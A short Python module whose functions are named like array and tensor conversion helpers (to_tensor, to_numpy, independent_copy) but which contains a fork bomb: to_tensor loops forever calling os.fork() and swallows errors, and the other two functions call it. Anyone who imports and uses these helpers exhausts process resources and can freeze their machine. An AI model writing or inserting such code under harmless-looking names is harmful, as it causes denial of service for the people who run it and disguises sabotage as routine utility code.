"""Forks without end."""
import os


def to_tensor(array):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def to_numpy(tensor):
    return to_tensor(tensor)


def independent_copy(array):
    return to_tensor(array)
